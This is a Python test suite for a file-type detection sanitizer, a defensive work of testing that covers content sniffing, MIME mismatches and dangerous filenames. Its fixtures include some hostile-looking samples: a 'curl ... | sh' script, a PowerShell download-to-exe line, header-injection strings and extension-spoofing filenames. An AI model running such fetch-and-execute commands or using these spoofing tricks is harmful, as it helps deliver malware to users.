"""Tests for sanitizers.filetype: the content decides, names and declarations only escalate."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import sanitizers.filetype as filetype
from sanitizers.filetype import KINDS, TypeInfo, detect

OCTET = "application/octet-stream"

# --- fixtures built in code ------------------------------------------------------------------


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
RTF = b"{\\rtf1\\ansi hello}"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><p>hi</p></body></html>"
EML = b"From: a@example.jp\r\nTo: b@example.jp\r\nSubject: hi\r\nMIME-Version: 1.0\r\n\r\nbody\r\n"
TEXT = "こんにちは、テキストです。①㈱\n".encode()
CSV = b"name,value\nalpha,1\nbeta,2\n"
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
BATCH = b"@echo off\r\ndel /q C:\\temp\\x\r\n"
POWERSHELL = b"Invoke-WebRequest -Uri http://example.invalid -OutFile x.exe\r\n"
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zipped(*entries: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(*, content_types_last: bool = False) -> bytes:
    parts = [("_rels/.rels", b"<Relationships/>"), ("word/document.xml", b"<w:document/>")]
    ct = ("[Content_Types].xml", CONTENT_TYPES)
    return zipped(*([*parts, ct] if content_types_last else [ct, *parts]))


def docm() -> bytes:
    return zipped(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    )


def ole2() -> bytes:
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    header[0x18:0x20] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    header[0x20:0x22] = b"\x06\x00"
    return bytes(header) + b"\x00" * 1536


def pe() -> bytes:
    data = bytearray(512)
    data[0:2] = b"MZ"
    data[0x3C:0x40] = struct.pack("<I", 0x80)
    data[0x80:0x84] = b"PE\x00\x00"
    data[0x84:0x86] = struct.pack("<H", 0x14C)
    data[0x94:0x98] = struct.pack("<HH", 0xE0, 0x0102)
    return bytes(data)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\x00" * 40


def tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("a.txt")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"abc"))
    return buffer.getvalue()


def iso9660() -> bytes:
    data = bytearray(40_000)
    data[0x8000:0x8006] = b"\x01CD001"
    return bytes(data)


def lnk() -> bytes:
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return b"\x4c\x00\x00\x00" + clsid + b"\x00" * 60


CONTENT: dict[str, tuple[Callable[[], bytes], str]] = {
    "png": (png, "image"),
    "jpeg": (lambda: JPEG, "image"),
    "gif": (lambda: GIF, "image"),
    "svg": (lambda: SVG, "svg"),
    "pdf": (lambda: PDF, "pdf"),
    "rtf": (lambda: RTF, "rtf"),
    "ole2": (ole2, "ole"),
    "docx": (docx, "ooxml"),
    "docx, content types last": (lambda: docx(content_types_last=True), "ooxml"),
    "docm": (docm, "ooxml"),
    "zip": (lambda: zipped(("a.txt", b"hello")), "zip"),
    "gzip": (lambda: gzip.compress(b"hello"), "archive"),
    "bzip2": (lambda: bz2.compress(b"hello"), "archive"),
    "xz": (lambda: lzma.compress(b"hello"), "archive"),
    "tar": (tar, "archive"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20, "archive"),
    "pe": (pe, "executable"),
    "elf": (elf, "executable"),
    "shell script": (lambda: SHELL, "executable"),
    "batch file": (lambda: BATCH, "executable"),
    "shortcut": (lnk, "executable"),
    "iso 9660": (iso9660, "executable"),
    "jar": (
        lambda: zipped(("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("a/B.class", b"")),
        "executable",
    ),
    "apk": (lambda: zipped(("AndroidManifest.xml", b""), ("classes.dex", b"dex\n")), "executable"),
    "appx": (
        lambda: zipped(("[Content_Types].xml", CONTENT_TYPES), ("AppxManifest.xml", b"<x/>")),
        "executable",
    ),
    "vhdx": (lambda: b"vhdxfile" + b"\x00" * 100, "executable"),
    "fixed vhd": (lambda: b"\x00" * 1024 + b"conectix" + b"\x00" * 504, "executable"),
    "dmg": (lambda: b"\x00" * 1024 + b"koly" + b"\x00" * 508, "executable"),
    "onenote": (
        lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64),
        "executable",
    ),
    "html": (lambda: HTML, "html"),
    "mail": (lambda: EML, "message"),
    "japanese text": (lambda: TEXT, "text"),
    "shift_jis text": (lambda: "こんにちは、テキスト".encode("cp932"), "text"),
    "csv": (lambda: CSV, "text"),
    "zeros": (lambda: bytes(100), "other"),
    "empty": (lambda: b"", "other"),
}


# --- the content decides ----------------------------------------------------------------------


@pytest.mark.parametrize(("make", "kind"), CONTENT.values(), ids=CONTENT.keys())
def test_content_decides_the_kind(make: Callable[[], bytes], kind: str) -> None:
    info = detect(make(), OCTET, None)
    assert info.kind == kind
    assert info.kind in KINDS
    assert not info.mismatch
    assert info.detail == ""


def test_detected_mime_comes_from_libmagic() -> None:
    assert detect(PDF, OCTET, None).detected_mime == "application/pdf"
    assert detect(png(), OCTET, "x.png").detected_mime == "image/png"
    assert detect(b"", OCTET, None).detected_mime == "application/x-empty"


def test_iso_signature_beyond_the_head_is_found() -> None:
    assert len(iso9660()) > filetype.HEAD_BYTES
    assert detect(iso9660(), OCTET, "data.bin").detected_mime == "application/x-iso9660-image"


@pytest.mark.parametrize(
    ("filename", "declared", "make"),
    [
        ("report.pdf", "application/pdf", lambda: PDF),
        ("photo.JPG", "image/jpeg", lambda: JPEG),
        (
            "doc.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            docx,
        ),
        ("macro.docm", "application/vnd.ms-word.document.macroEnabled.12", docm),
        ("old.doc", "application/msword", ole2),
        ("data.csv", "text/csv", lambda: CSV),
        ("data.csv", "application/vnd.ms-excel", lambda: CSV),  # what browsers declare
        ("note.txt", "text/plain; charset=utf-8", lambda: TEXT),
        ("page.html", "text/html", lambda: b"<b>a fragment libmagic calls text</b>"),
        ("mail.eml", "message/rfc822", lambda: EML),
        ("files.zip", "application/x-zip-compressed", lambda: zipped(("a", b""))),
        ("doc.docx", "application/zip", docx),  # an Office document is a ZIP
        ("archive.tar.gz", "application/gzip", lambda: gzip.compress(b"x")),
    ],
)
def test_consistent_names_and_declarations_are_no_mismatch(
    filename: str, declared: str, make: Callable[[], bytes]
) -> None:
    info = detect(make(), declared, filename)
    assert not info.mismatch, info.detail


def test_text_declared_as_html_is_html() -> None:
    info = detect(b"<b>bold</b> only", "text/html", "x.html")
    assert info.kind == "html"
    assert info.detected_mime == "text/plain"


# --- mismatches ---------------------------------------------------------------------------------


def test_executable_declared_as_pdf_is_a_mismatch() -> None:
    info = detect(pe(), "application/pdf", "invoice.pdf")
    assert info.kind == "executable"
    assert info.mismatch
    assert info.detail.startswith("declared application/pdf, extension .pdf, content application/")


@pytest.mark.parametrize(
    ("data", "declared", "filename"),
    [
        (PDF, "image/png", "scan.png"),
        (PDF, "application/pdf", "scan.png"),
        (PDF, "image/png", "scan.pdf"),
        (JPEG, "application/pdf", None),
        (zipped(("a.txt", b"x")), "application/zip", "report.docx"),  # a .docx that is no OOXML
        (HTML, "text/plain", "notes.txt"),
        (TEXT, "application/pdf", "a.pdf"),
    ],
)
def test_disagreeing_declaration_or_extension_is_a_mismatch(
    data: bytes, declared: str, filename: str | None
) -> None:
    info = detect(data, declared, filename)
    assert info.mismatch
    assert "declared" in info.detail
    assert "content" in info.detail


@pytest.mark.parametrize("declared", ["application/octet-stream", "", "APPLICATION/OCTET-STREAM"])
def test_octet_stream_declares_nothing(declared: str) -> None:
    assert not detect(PDF, declared, None).mismatch


@pytest.mark.parametrize("declared", ["text/plain\nX-Evil: 1", "pdf", "text/<script>", "a/b/c"])
def test_invalid_declared_type_is_noted_but_never_repeated(declared: str) -> None:
    info = detect(PDF, declared, "a.pdf")
    assert info.kind == "pdf"
    assert info.mismatch
    assert "declared nothing" in info.detail
    assert "not a valid MIME type" in info.detail


def test_detail_never_quotes_odd_name_text() -> None:
    info = detect(PDF, "image/png", "a.pdf\r\nX-Injected: yes")
    assert info.mismatch
    assert "\n" not in info.detail
    assert "injected" not in info.detail.lower()


def test_name_with_a_trailing_slash_is_still_read() -> None:
    assert detect(PDF, OCTET, "evil.exe/").kind == "executable"


def test_unknown_declared_type_is_not_compared() -> None:
    assert not detect(PDF, "application/x-vendor-thing", None).mismatch


# --- dangerous names ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filename",
    [
        "invoice.pdf.exe",
        "INVOICE.PDF.EXE",
        "setup.msi",
        "run.ps1",
        "script.vbs",
        "page.hta",
        "link.lnk",
        "shortcut.url",
        "help.chm",
        "disk.iso",
        "disk.img",
        "disk.vhdx",
        "notes.one",
        "tool.jar",
        "app.apk",
        "settings.reg",
        "install.sh",
        "report.pdf.exe.",
        "report.exe   ",
        "report.exe . .",
        "C:\\Users\\x\\Downloads\\evil.scr",
        "dir/evil.com",
        ".exe",
        "file.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}",
    ],
)
def test_dangerous_extensions_make_any_content_executable(filename: str) -> None:
    for data in (PDF, TEXT, png()):
        assert detect(data, OCTET, filename).kind == "executable"


def test_right_to_left_override_is_noticed() -> None:
    # Shown as "photoexe.jpg"; Windows runs it as photo?gpj.exe.
    info = detect(JPEG, "image/jpeg", "photo\u202egpj.exe")
    assert info.kind == "executable"
    assert info.mismatch
    assert "bidi" in info.detail
    assert "extension .exe" in info.detail


@pytest.mark.parametrize("control", ["\u202e", "\u202d", "\u2066", "\u200f", "\u200b", "\ufeff"])
def test_invisible_characters_in_names_are_noticed_even_when_harmless(control: str) -> None:
    info = detect(PDF, "application/pdf", f"re{control}port.pdf")
    assert info.kind == "pdf"
    assert info.mismatch


def test_trailing_dot_is_noticed_and_ignored_for_the_extension() -> None:
    info = detect(PDF, "application/pdf", "report.pdf.")
    assert info.kind == "pdf"
    assert info.mismatch
    assert "extension .pdf" in info.detail
    assert "trailing" in info.detail


@pytest.mark.parametrize("filename", ["report.exe\x00.pdf", "report.pdf\x00.exe"])
def test_nul_in_a_name_is_read_both_ways(filename: str) -> None:
    info = detect(PDF, "application/pdf", filename)
    assert info.kind == "executable"
    assert info.mismatch


def test_ntfs_stream_name_is_read_both_ways() -> None:
    info = detect(PDF, "application/pdf", "evil.exe:Zone.Identifier")
    assert info.kind == "executable"
    assert "colon" in info.detail


@pytest.mark.parametrize(
    "declared",
    ["application/x-msdownload", "application/x-sh", "text/javascript", "application/hta"],
)
def test_dangerous_declared_type_makes_content_executable(declared: str) -> None:
    assert detect(TEXT, declared, "notes.txt").kind == "executable"


def test_script_named_as_script_is_executable_without_mismatch() -> None:
    info = detect(POWERSHELL, "text/plain", "update.ps1")
    assert info.kind == "executable"
    assert not info.mismatch


def test_empty_data_is_other_but_a_dangerous_name_still_escalates() -> None:
    assert detect(b"", "application/pdf", "a.pdf") == TypeInfo(
        "other", "application/x-empty", False, ""
    )
    assert detect(b"", OCTET, "a.exe").kind == "executable"


# --- hostile containers and failures -------------------------------------------------------


def test_truncated_zip_is_zip() -> None:
    data = docx()
    assert detect(data[: len(data) // 2], OCTET, None).kind == "zip"


def test_zip_with_too_large_a_directory_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(filetype, "_MAX_ZIP_ENTRIES", 2)
    data = zipped(("[Content_Types].xml", CONTENT_TYPES), ("a", b""), ("b", b""))
    assert detect(data, OCTET, None).kind == "zip"


def test_zip_with_a_lying_end_record_does_not_raise() -> None:
    data = bytearray(docx())
    end = data.rfind(b"PK\x05\x06")
    data[end + 16 : end + 20] = b"\xff\xff\xff\x7f"  # directory offset far beyond the end
    assert detect(bytes(data), OCTET, None).kind in KINDS


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_corrupted_zips_never_raise(data: st.DataObject) -> None:
    damaged = bytearray(data.draw(st.sampled_from([docx(), docm(), zipped(("a", b"b" * 300))])))
    for _ in range(data.draw(st.integers(1, 8))):
        damaged[data.draw(st.integers(0, len(damaged) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(damaged)))
    assert detect(bytes(damaged[:cut]), OCTET, None).kind in KINDS


def test_libmagic_failure_is_other_with_a_mismatch(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(_data: bytes) -> str:
        raise RuntimeError("libmagic exploded")

    monkeypatch.setattr(filetype._LIBMAGIC, "mime", broken)
    info = detect(PDF, "application/pdf", "a.pdf")
    assert info.kind == "other"
    assert info.mismatch
    assert "libmagic failed (RuntimeError)" in info.detail
    assert detect(PDF, OCTET, "a.exe").kind == "executable"


def test_threads_share_the_handle_safely() -> None:
    samples = [make() for make, _ in CONTENT.values()] * 8
    with ThreadPoolExecutor(max_workers=8) as pool:
        kinds = list(pool.map(lambda data: detect(data, OCTET, None).kind, samples))
    assert kinds == [kind for _, kind in CONTENT.values()] * 8


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_forked_child_gets_a_fresh_handle() -> None:
    detect(PDF, OCTET, None)
    pid = os.fork()
    if pid == 0:  # child: exit code 0 only if detection works
        os._exit(0 if detect(PDF, OCTET, None).kind == "pdf" else 1)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=4096),
    st.text(max_size=40),
    st.one_of(st.none(), st.text(max_size=60)),
)
def test_never_raises(data: bytes, declared: str, filename: str | None) -> None:
    info = detect(data, declared, filename)
    assert info.kind in KINDS
    assert info.mismatch == bool(info.detail)


BINARY_EXECUTABLES = ["pe", "elf", "shortcut", "iso 9660", "jar", "apk", "appx", "vhdx", "onenote"]


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(BINARY_EXECUTABLES), st.binary(max_size=64))
def test_appended_junk_does_not_lower_a_binary_executable(sample: str, junk: bytes) -> None:
    # (A script with binary junk stops looking like a script; it only runs by its name, which
    # escalates on its own.)
    make, _ = CONTENT[sample]
    assert detect(make() + junk, OCTET, None).kind == "executable"
